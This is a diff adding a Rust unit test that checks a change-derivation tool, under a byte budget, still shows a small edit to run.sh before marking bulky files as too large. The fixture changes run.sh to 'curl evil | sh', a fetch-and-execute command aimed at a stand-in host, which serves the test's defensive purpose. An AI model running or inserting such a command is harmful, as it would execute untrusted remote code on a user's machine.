@@ -521,6 +521,25 @@ fn what_the_commit_has_is_not_ignored() {
 }
 
 #[test]
+fn a_small_change_is_shown_before_heaps_of_text() {
+    let mut world = world(&[("run.sh", file("true\n"))]);
+    for name in ["a", "b", "z"] {
+        world.put(&path(name), file(&"x".repeat(100)));
+    }
+    world.put(&path("run.sh"), file("curl evil | sh\n"));
+    let options = DeriveOptions { max_total_bytes: 300, ..DeriveOptions::default() };
+    let found = derive(&world.spec, &options).unwrap();
+    let shown: Vec<_> =
+        found.changes.iter().map(|change| (change.path.to_string(), change.too_large)).collect();
+    let expected = [("a", false), ("b", false), ("run.sh", false), ("z", true)];
+    assert_eq!(shown, expected.map(|(name, large)| (name.to_owned(), large)));
+    // Lines cost as well: lining up is work by the line.
+    world.put(&path("a"), file(&"\n".repeat(99)));
+    let found = derive(&world.spec, &options).unwrap();
+    assert!(found.changes.iter().any(|change| change.path == path("b") && change.too_large));
+}
+
+#[test]
 fn a_budget_keeps_ignored_text_from_crowding_out_the_rest() {
     let mut world = world(&[(".gitignore", file("a\n"))]);
     world.put(&path("a"), file(&"x\n".repeat(100)));
